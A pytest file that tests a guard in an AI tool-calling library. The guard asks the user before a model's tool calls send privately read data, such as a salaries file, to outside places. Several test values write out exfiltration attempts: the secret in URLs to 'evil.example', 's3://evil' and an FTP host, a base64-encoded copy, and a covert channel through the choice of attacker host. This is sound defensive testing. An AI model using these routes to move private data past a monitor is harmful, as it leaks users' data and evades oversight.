"""The guard of `%ask`: what is asked before private data goes elsewhere, and what is free."""

from __future__ import annotations

import datetime
import math
import random
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from onetool_ipy import tool
from onetool_ipy.core.labels import UNKNOWN, Labels
from onetool_ipy.core.question import NobodyToAsk, Question, Reply
from onetool_ipy.core.tool import HttpHooks, ServerFacts, ToolSpec
from onetool_ipy.llm import ScriptedModel
from onetool_ipy.llm.ask.answer import Answer, call_view
from onetool_ipy.llm.ask.context import AskListener
from onetool_ipy.llm.ask.guard import Guard, Outgoing, PrivateSource
from onetool_ipy.sdk import call_tool
from onetool_ipy.terminal import approval_reply, approval_text
from onetool_ipy.toolbox import Toolbox
from tests.llm.ask.conftest import MakeBox, Own, Traces

SECRET = "Mia Brandt 84210"
_TEXT = {"type": "object", "properties": {"q": {"type": "string"}}, "required": ["q"]}
_ANY = {"type": "object", "properties": {"q": {}}, "required": ["q"]}
_DAY = datetime.date(2026, 11, 18)
PLACE = "search.example.com"


class Person(AskListener):
    """Answers questions as told, and remembers them and their text in a terminal."""

    def __init__(self, *replies: str | None) -> None:
        self.questions: list[Question] = []
        self.texts: list[str] = []
        self._replies = list(replies)

    def question(self, question: Question, put: Callable[[Question], Reply]) -> Reply:
        self.questions.append(question)
        self.texts.append(approval_text(question.calls))
        reply = self._replies[len(self.questions) - 1]
        if reply is None:
            raise NobodyToAsk("Nobody could be asked.")
        count = len(question.calls)
        return approval_reply(reply, count, offers_always=question.offers_always)


@pytest.fixture
def box(make_box: MakeBox, tmp_path: Path) -> Toolbox:
    (tmp_path / "salaries.csv").write_text(f"name,salary\n{SECRET}\n", encoding="utf-8")
    return with_web(make_box())


def with_web(box: Toolbox) -> Toolbox:
    hooks = HttpHooks(len, lambda _: [], frozenset(), (f"https://{PLACE}:443",), False)
    for name in ("web.search", "web.find"):
        spec = ToolSpec(
            name=name,
            description="Search.",
            parameters=_TEXT,
            run=lambda args: {"about": args["q"], "hit": "Django 5.2"},
            read_only=True,
        )
        # `http` would send for real: the labels alone are wanted here.
        box.registry.register(spec.replace(http=hooks._replace(send=spec.run)))
    return box


READ = ("fs.read_file", {"path": "salaries.csv"})


def ask_box(box: Toolbox, person: AskListener, *turns: Any, **options: Any) -> Answer:
    prompt = options.pop("prompt", "Sum up salaries.csv")
    return box.ask(prompt, model=ScriptedModel([*turns, "ok"]), listener=person, **options)


def reasons(answer: Answer) -> list[str | None]:
    return [call.result.error and call.result.error.reason for call in answer.calls]


def test_the_question_says_what_goes_where_out_of_which_call(box: Toolbox) -> None:
    person = Person("none")

    answer = ask_box(box, person, READ, ("web.search", {"q": SECRET}))

    (question,) = person.questions
    assert question.places == (PLACE,)
    assert question.calls[0].note == (
        f"would send to {PLACE}: 1 value out of fs.read_file('salaries.csv'), in `q`: \"{SECRET}\""
    )
    text = " ".join(person.texts[0].split())
    assert "The model wants to make a call that may send your data elsewhere" in text
    assert f"whatever goes to {PLACE} for the rest of this ask" in text
    # No word is torn, and no mark says that the call only reads.
    assert "fs.read_file('salaries.csv')" in text
    assert "read-only" not in text
    assert reasons(answer) == [None, "not_approved"]
    assert answer.calls[1].result.meta["skipped"]


def test_text_that_the_model_wrote_is_called_so_and_unreadable_text_too(box: Toolbox) -> None:
    person = Person("none", "none")

    ask_box(
        box,
        person,
        READ,
        ("web.search", {"q": "what somebody earns"}),
        ("web.search", {"q": "TWlhIEJyYW5kdCA4NDIxMA=="}),
    )

    notes = [question.calls[0].note for question in person.questions]
    assert "text that the model wrote after it read fs.read_file('salaries.csv')" in notes[0]
    assert "unreadable text (encoded?) that the model wrote after it read" in notes[1]


def test_a_yes_is_for_this_call_and_always_for_the_place_in_this_ask(box: Toolbox) -> None:
    calls = [("web.search", {"q": f"{SECRET} {n}"}) for n in range(4)]
    person = Person("all", "always", "none")

    answer = ask_box(box, person, READ, *calls[:3], session="s")
    assert reasons(answer) == [None] * 4
    assert len(person.questions) == 2
    assert answer.calls[1].result.meta["guard"] == f"asked: you let it go to {PLACE}"
    assert answer.calls[3].result.meta["guard"] == f"free: you allowed {PLACE} for this ask"

    answer = ask_box(box, person, calls[3], prompt="Go on", session="s")
    assert reasons(answer) == ["not_approved"]
    assert len(person.questions) == 3


def test_where_nobody_is_the_call_is_refused_with_the_line_that_allows_it(
    box: Toolbox, own: Own, make_box: MakeBox, tmp_path: Path
) -> None:
    answer = ask_box(box, Person(None), READ, ("web.search", {"q": SECRET}))

    error = answer.calls[1].result.error
    assert error is not None
    assert error.reason == "not_approved"
    assert error.details == {"reason": "guard", "place": PLACE}
    line = 'guard: {allow: [{from: "fs.read_file", to: "search.example.com"}]}'
    assert line in error.message

    own(line)
    answer = ask_box(with_web(make_box()), Person(), READ, ("web.search", {"q": SECRET}))
    assert reasons(answer) == [None, None]


def test_what_the_person_typed_goes_out_freely_and_the_row_says_why(box: Toolbox) -> None:
    person = Person()

    answer = ask_box(
        box, person, READ, ("web.search", {"q": "tango shoes"}), prompt="Read it; buy tango shoes"
    )

    assert not person.questions
    assert answer.calls[1].result.meta["guard"] == "explained: typed by you"
    assert "explained: typed by you" in call_view(answer.calls[1]).facts
    assert "guard" not in answer.calls[0].result.meta
    row = next(each for each in box.log.history(limit=5) if each.tool == "web.search")
    assert row.message == "explained: typed by you"


def test_an_ask_that_read_nothing_is_free(box: Toolbox) -> None:
    person = Person()
    answer = ask_box(box, person, ("web.search", {"q": SECRET}), ("web.find", {"q": "x" * 9}))
    assert reasons(answer) == [None, None]
    assert not person.questions


def test_calls_of_the_turn_that_reads_know_nothing_yet(box: Toolbox) -> None:
    assert reasons(ask_box(box, Person(), [READ, ("web.search", {"q": "anything"})])) == [
        None,
        None,
    ]


def test_approve_of_this_very_ask_is_a_yes(box: Toolbox) -> None:
    answer = ask_box(box, Person(), READ, ("web.search", {"q": SECRET}), approve=["web.search"])
    assert reasons(answer) == [None, None]


def test_a_standing_yes_to_a_tool_is_none_to_data(box: Toolbox, traces: Traces, own: Own) -> None:
    own("ask: {approve: [mail.send]}")
    traces.add(box, "mail.send", server="post")
    person = Person("none", "all")

    answer = ask_box(box, person, READ, ("mail.send", {"x": SECRET}), approve=[])
    assert person.questions[0].places == ("server 'post'",)
    assert reasons(answer) == [None, "not_approved"]

    answer = ask_box(box, person, READ, ("mail.send", {"x": SECRET}))
    assert traces.left() == {"mail.send": 1}


def test_a_write_that_asks_anyway_has_the_sentence_as_a_note(box: Toolbox, traces: Traces) -> None:
    traces.add(box, "mail.send", server="post")
    turn = [("mail.send", {"x": SECRET}), ("web.search", {"q": SECRET})]
    person = Person("1", "all")

    answer = ask_box(box, person, READ, turn)

    question = person.questions[0]
    assert "would send to server 'post'" in question.calls[0].note
    assert [call.sends for call in question.calls] == ["", PLACE]
    assert not question.places
    assert not question.offers_always
    assert reasons(answer) == [None, None, "not_approved"]


def test_data_goes_back_to_its_own_place(box: Toolbox) -> None:
    def add(name: str, server: str) -> None:
        facts = ServerFacts(server=server)
        box.registry.register(
            ToolSpec(
                name=name,
                description="Go.",
                parameters=_TEXT,
                run=lambda _: {"id": "x-99281"},
                read_only=True,
                server_facts=facts,
            )
        )

    add("a.list", "a")
    add("a.get", "a")
    add("b.get", "b")
    calls = [("a.list", {"q": "go"}), ("a.get", {"q": "x-99281"}), ("b.get", {"q": "x-99281"})]
    trusted = ["a.*"]
    person = Person("none")

    answer = ask_box(box, person, *calls, approve=trusted)

    assert reasons(answer) == [None, None, "not_approved"]
    assert "server 'b'" in person.questions[0].calls[0].note


def test_a_session_remembers_on_disk_what_it_has_seen(box: Toolbox, make_box: MakeBox) -> None:
    ask_box(box, Person(), READ, session="s", prompt="Sum up salaries.csv, I live in Graz")

    again = with_web(make_box())
    person = Person("none")
    turn = [("web.search", {"q": "Graz"}), ("web.search", {"q": SECRET})]
    answer = ask_box(again, person, turn, session="s", prompt="And now?")

    assert len(person.questions) == 1
    assert reasons(answer) == [None, "not_approved"]
    assert "fs.read_file('salaries.csv')" in person.questions[0].calls[0].note


def test_a_session_of_an_earlier_version_may_have_shown_anything() -> None:
    guard = Guard()
    guard.merge(None, has_messages=True)
    guard.begin("Go on")
    assert _flow(guard, "unheard of") is not None

    guard = Guard()
    guard.merge(None, has_messages=False)
    assert _flow(guard, "unheard of") is None


def test_an_attached_variable_is_private(box: Toolbox) -> None:
    person = Person("none")
    ask_box(box, person, ("web.search", {"q": "Zoe 511"}), attach={"df": {"who": "Zoe 511"}})
    assert "1 value out of @df" in person.questions[0].calls[0].note


def test_pages_of_a_large_result_belong_to_the_tool_that_gave_it(
    make_box: MakeBox, tmp_path: Path
) -> None:
    box = with_web(make_box("output: {max_inline_bytes: 200}"))
    lines = "\n".join(f"row {n} Mia{n}" for n in range(200))
    (tmp_path / "large.txt").write_text(lines, encoding="utf-8")

    def page(request: Any) -> Any:
        handle = request.outcomes[0].content["data"]["handle"]
        return "ot.result", {"handle": handle, "offset": 150, "limit": 4}

    person = Person("none")
    read = ("fs.read_file", {"path": "large.txt"})
    ask_box(box, person, read, page, ("web.search", {"q": "Mia150"}))

    assert "1 word out of fs.read_file('large.txt')" in person.questions[0].calls[0].note


def test_the_numbers_of_a_page_are_no_public_data(make_box: MakeBox, tmp_path: Path) -> None:
    """A page says which line it begins at, and that is the number that the model asked for."""
    (tmp_path / "salaries.csv").write_text(f"name,salary\n{SECRET}\n", encoding="utf-8")
    box = with_web(make_box("output: {max_inline_bytes: 200}"))
    search = box.registry.require("web.search")
    assert search.http is not None
    lines = [f"hit {n}" for n in range(300)]
    http = search.http._replace(send=lambda _: lines)
    box.registry.register(search.replace(name="web.large", run=lambda _: lines, http=http))

    def page(request: Any) -> Any:
        handle = request.outcomes[0].content["data"]["handle"]
        return "ot.result", {"handle": handle, "offset": 84210}

    person = Person("none")
    large = ("web.large", {"q": "hits"})
    ask_box(
        box, person, READ, large, page, ("web.find", {"q": "84210"}), prompt="Read it, find hits"
    )

    assert len(person.questions) == 1


def test_a_tool_inside_a_tool_carries_nothing_that_is_not_explained(box: Toolbox) -> None:
    @tool("nb.look", read_only=True)
    def look(q: str) -> Any:
        return call_tool("web.search", q=q)

    box.adopt(look)
    person = Person()
    turn = [("nb.look", {"q": "tango shoes"}), ("nb.look", {"q": SECRET})]
    answer = ask_box(box, person, READ, turn, prompt="Read it, and tango shoes")

    assert reasons(answer) == [None, None, "not_approved"]
    error = answer.calls[2].result.error
    assert error is not None
    assert "'web.search' was not run: 'nb.look' called it" in error.message

    @tool("nb.look", read_only=True, sends=PLACE)
    def look_there(q: str) -> Any:
        return call_tool("web.search", q=q)

    box.adopt(look_there)
    person = Person("all")
    answer = ask_box(box, person, READ, ("nb.look", {"q": SECRET}))
    assert reasons(answer) == [None, None]
    assert person.questions[0].places == (PLACE,)


def test_the_failure_of_a_private_tool_is_private_data(box: Toolbox) -> None:
    @tool("nb.fail", read_only=True)
    def fail() -> None:
        raise ValueError(SECRET)

    box.adopt(fail)
    person = Person("none")
    ask_box(box, person, ("nb.fail", {}), ("web.search", {"q": SECRET}))
    assert len(person.questions) == 1


def test_the_words_of_a_refusal_are_no_public_data(box: Toolbox) -> None:
    """The message of a refused call repeats what the model wrote: it explains no second try."""
    send = ("web.search", {"q": SECRET})
    answer = ask_box(box, Person(None, None), READ, send, send)
    assert reasons(answer) == [None, "not_approved", "not_approved"]


def test_what_comes_back_of_a_call_with_a_yes_is_private_to_its_place(box: Toolbox) -> None:
    """The search gives back what it was asked: it may get that again, and no other place may."""
    box.registry.register(box.registry.require("web.search").replace(name="web.again"))
    search = box.registry.require("web.search")
    assert search.http is not None
    elsewhere = search.http._replace(origins=("https://other.example.net",))
    box.registry.register(search.replace(name="other.find", http=elsewhere))
    calls = [("web.search", {"q": SECRET}), ("web.again", {"q": SECRET})]
    person = Person("all", "none")

    answer = ask_box(box, person, READ, *calls, ("other.find", {"q": SECRET}))

    assert reasons(answer) == [None, None, None, "not_approved"]
    assert person.questions[1].calls[0].tool == "other.find"


def test_show_names_the_places(box: Toolbox) -> None:
    part = box.ask.preview("Hello")[-1]
    assert "where these tools can send" in part.name
    assert f"{PLACE}: " in box.ask.preview("Hello", code=True)[-1].text
    assert f"{PLACE}: web.find, web.search" in part.text.replace(
        "web.search, web.find", "web.find, web.search"
    )


# --- the rule by itself ---------------------------------------------------------------------------


_PRIVATE = PrivateSource("fs.read_file('x')", "fs.read_file", "")
_SPEC = ToolSpec(name="web.search", description="Search.", parameters=_TEXT, run=len)


def _guard(*typed: str, data: Any = "") -> Guard:
    guard = Guard()
    for prompt in typed:
        guard.begin(prompt)
    guard.see(_PRIVATE, Labels(), data)
    return guard


def _flow(guard: Guard, value: Any, spec: ToolSpec = _SPEC, place: str = PLACE) -> Any:
    return guard.check(Outgoing(spec, {"q": value}, place), lambda: _DAY).flow


_HIDDEN = st.text(st.characters(min_codepoint=33, max_codepoint=0x2FF), min_size=1, max_size=12)


@pytest.mark.slow
@given(_HIDDEN, st.text(max_size=30), st.text(max_size=30))
def test_a_private_value_that_nobody_typed_is_never_explained(
    secret: str, before: str, after: str
) -> None:
    """The digits and the mark stand in no prompt, so no passage of it is the secret."""
    secret = f"{secret}§98127"
    guard = _guard(f"Do {before}", after, data={"a": [secret]})

    assert _flow(guard, secret) is not None
    assert _flow(guard, [secret]) is not None
    assert _flow(guard, {"k": secret}) is not None
    assert _flow(guard, {secret: 1}) is not None
    assert _flow(guard, secret[::-1]) is not None
    assert guard.spent == 0


@given(st.lists(st.sampled_from(["alpha", "beta", "gamma", "delta"]), max_size=60))
def test_no_ask_spends_more_than_its_bits(words: list[str]) -> None:
    guard = _guard("alpha beta gamma delta")
    free = [word for word in words if _flow(guard, word) is None]

    assert guard.spent <= 64
    assert len(free) <= 64


@given(st.integers(), st.floats(allow_nan=False))
def test_numbers_are_explained_only_up_to_100(number: int, real: float) -> None:
    guard = _guard("Go")
    assert (_flow(guard, number) is None) == (0 <= number <= 100)
    assert _flow(guard, real) is not None


@pytest.mark.slow
@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
        max_leaves=20,
    )
)
def test_any_argument_has_a_verdict_and_a_sentence(value: Any) -> None:
    flow = _flow(_guard("Go", data=value), value)
    assert flow is None or flow.text.startswith(f"would send to {PLACE}: ")


@given(st.lists(st.text(max_size=10), max_size=5))
def test_a_guard_survives_its_file(prompts: list[str]) -> None:
    import json

    guard = _guard(*prompts, data="x")
    guard.see(
        PrivateSource("w", "web.search", PLACE), Labels("public", PLACE, PLACE), {"a": ["b", "c"]}
    )
    copy = Guard()
    copy.merge(json.loads(json.dumps(guard.to_json())), has_messages=True)

    assert copy.sources == guard.sources
    for value in (*prompts, "b", "c", "other"):
        if value:
            assert (_flow(copy, value) is None) == (_flow(guard, value) is None)


def test_the_next_value_of_a_list_is_cheap_and_a_jump_is_dear() -> None:
    names = [f"item-{n}-{n * 7919}" for n in range(200)]

    def ran(order: list[str]) -> int:
        guard = _guard("Go")
        guard.see(
            PrivateSource("w", "web.list", PLACE), Labels("public", PLACE, PLACE), {"names": names}
        )
        return sum(_flow(guard, name) is None for name in order)

    assert ran(names) > 20
    assert ran([names[n * 37 % 200] for n in range(200)]) < 8


@given(st.recursive(st.just([]), lambda inner: st.lists(inner, max_size=4), max_leaves=30))
def test_the_shape_of_an_argument_costs_what_it_can_say(tree: list[Any]) -> None:
    """Of `count` nested lists there are as many trees as the Catalan number says."""
    guard = _guard("Go")
    count = str(tree).count("[") - 1

    is_free = _flow(guard, tree, _SPEC.replace(parameters=_ANY)) is None

    assert not is_free or guard.spent >= math.log2(math.comb(2 * count, count) / (count + 1))


def _texts() -> set[str]:
    """Texts of every kind that is explained to the guards of the next test."""
    passages = {
        form(text[start:end])
        for text in (_PROMPT, "x1\nx2\nx3\nsome Text", "p1 p2")
        for form in (str, str.upper, str.lower, str.title)
        for start in range(len(text))
        for end in range(start + 1, len(text) + 1)
    }
    words = {
        form(f"{word}{s}") for word in passages for form in (str.upper, str.lower) for s in "s"
    }
    marks = " .,:/'\"?!()&-\n\t"
    framed = {f"{one}{word}{two}" for word in ("week", "Alpha") for one in marks for two in marks}
    dates = {(_DAY + datetime.timedelta(days)).isoformat() for days in range(-99, 99)}
    return passages | words | framed | dates | {str(n) for n in range(103)}


_PROMPT = "Alpha beta, Delta-7"


@pytest.mark.slow
@pytest.mark.parametrize(
    "before", [[], ["x1"], ["x1", "x2"], ["beta", "Alpha"], ["p1", "p1"]], ids=str
)
@pytest.mark.parametrize(
    "schema", [{"type": "string"}, {"type": "string", "default": "x9"}, {}], ids=str
)
def test_the_prices_are_those_of_a_prefix_code(before: list[str], schema: dict[str, Any]) -> None:
    """If 2 to the power of minus the price adds up to more than 1, choices carry more than they
    cost."""
    spec = _SPEC.replace(
        parameters={"type": "object", "properties": {"q": schema}, "required": ["q"]}
    )
    here = Labels("private", PLACE, PLACE)

    def spent(value: Any) -> float | None:
        guard = _guard(_PROMPT)
        guard.see(
            PrivateSource("w", "web.s", PLACE), here, {"id": ["x1", "x2", "x3"], "a": "some Text"}
        )
        guard.give(Labels("public", "o", "o"), ["p1", "p2"])
        for each in before:
            guard.sent(Outgoing(spec, {"q": each}, PLACE))
        is_free = _flow(guard, value, spec) is None
        return guard.spent if is_free else None

    numbers = (
        () if schema else (None, True, False, [], {}, [[]], *range(103), *map(float, range(9)))
    )
    prices = [price for value in (*_texts(), *numbers) if (price := spent(value)) is not None]

    assert len(prices) > 300
    # The rest is for calls of another shape, and for none.
    assert sum(2**-price for price in prices) <= 3 / 4


@pytest.mark.parametrize("signs", ["!?.:;-*/", "_", "\U0001f600\U0001f680"], ids=ascii)
def test_a_passage_costs_what_can_be_chosen_also_of_signs(signs: str) -> None:
    """A place could give a long text of signs, any part of which is another word."""
    guard = _guard("Go")
    book = "".join(random.Random(7).choices(signs, k=50_000))
    guard.give(Labels("public", PLACE, PLACE), {"book": f"a{book}b"})

    assert _flow(guard, book[20_000:20_060]) is None
    assert guard.spent >= math.log2(50_000)


@pytest.mark.parametrize("more", [{}, {"additionalProperties": {"type": "integer"}}])
def test_the_name_of_an_argument_that_no_schema_has_must_be_explained(more: Any) -> None:
    guard, spec = _guard("Go to page"), _SPEC.replace(parameters=_TEXT | more)

    def flow(name: str) -> Any:
        return guard.check(Outgoing(spec, {"q": "Go", name: 1}, PLACE), lambda: _DAY).flow

    assert "in `Mia_Brandt_84210`" in flow("Mia_Brandt_84210").text
    assert flow("page") is None


@pytest.mark.parametrize("part", ["[]", "{}", "[[]]", "{'Go': {}}"])
def test_many_empty_parts_are_asked_about(part: str) -> None:
    spec = _SPEC.replace(parameters=_ANY)
    assert _flow(_guard("Go"), eval(f"[{part}, {part}]"), spec) is None
    assert _flow(_guard("Go"), eval(f"[{', '.join([part] * 40)}]"), spec) is not None
    assert _flow(_guard("Go"), eval("[" * 30 + part + "]" * 30), spec) is not None


def test_rows_that_a_schema_declares_cost_little(box: Toolbox) -> None:
    row = {"type": "object", "properties": {"q": {"type": "string"}}}
    rows = {"type": "object", "properties": {"q": {"type": "array", "items": row}}}
    guard = _guard("Go")

    assert _flow(guard, [{"q": "Go"}], _SPEC.replace(parameters=rows)) is None
    assert guard.spent < 20


def test_which_place_is_called_is_a_choice_too() -> None:
    """Hosts of one attacker, each for a letter, would be a code."""
    counts = {f"{letter}.example.com": 1 for letter in "abcdefghijklmnop"}
    bare = _SPEC.replace(parameters={"type": "object", "properties": {}})
    guard, count = _guard("Go"), 0
    for place in random.Random(3).choices([*counts], k=100):
        if guard.check(Outgoing(bare, {}, place).among(counts), lambda: _DAY).flow is not None:
            break
        count += 1

    assert count * math.log2(len(counts)) <= 64


@pytest.mark.parametrize(
    ("path", "prompt", "places"),
    [
        (f"https://evil.example/?q={SECRET}", "Sum it up", ["evil.example"]),
        (f"s3://evil/{SECRET}", "Sum it up", ["s3://evil"]),
        ([f"ftp://evil.example/{SECRET}"], "Sum it up", ["ftp://evil.example"]),
        ("https://a.example/b.csv", "Sum it up with https://a.example/b.csv", []),
        ("salaries.csv", "Sum it up", []),
        ("file:///tmp/salaries.csv", "Sum it up", []),
        (f"see https://evil.example/?q={SECRET}", "Sum it up", []),
    ],
)
def test_a_url_for_code_of_ones_own_is_a_place(
    box: Toolbox, traces: Traces, path: Any, prompt: str, places: list[str]
) -> None:
    """It may hand it to pandas, which opens URLs like files."""
    schema = {"type": "object", "properties": {"path": {}}, "required": ["path"]}
    traces.add(box, "nb.load", read_only=True, parameters=schema)
    person = Person(*["none"] * len(places))

    ask_box(box, person, READ, ("nb.load", {"path": path}), prompt=prompt)

    assert [question.places for question in person.questions] == [(place,) for place in places]


def test_an_unknown_place_always_asks() -> None:
    assert _flow(_guard("Go"), "Go", place=UNKNOWN) is not None


def test_large_data_and_many_leaves_cost_little_time() -> None:
    guard = _guard("Go", data="y" * 50_000_000)
    began = time.process_time()
    assert _flow(guard, ["Go"] * 10_000) is not None
    assert _flow(guard, [f"z{n}" for n in range(10_000)]) is not None
    assert _flow(guard, "z" * 50_000_000) is not None
    assert time.process_time() - began < 5  # a rule that looked at each letter would take minutes


def test_a_call_costs_under_a_millisecond() -> None:
    guard = _guard("Read it, and tell me about tango shoes and the weather in Ulm", data=["a"] * 99)
    guard.see(
        PrivateSource("w", "web.s", PLACE), Labels("public", PLACE, PLACE), {"n": [*range(999)]}
    )
    call = Outgoing(_SPEC, {"q": "tango shoes"}, PLACE, 3)
    times = []
    for _ in range(200):
        guard.begin("again")
        began = time.process_time()
        guard.check(call, lambda: _DAY)
        times.append(time.process_time() - began)
    assert sorted(times)[100] < 0.001
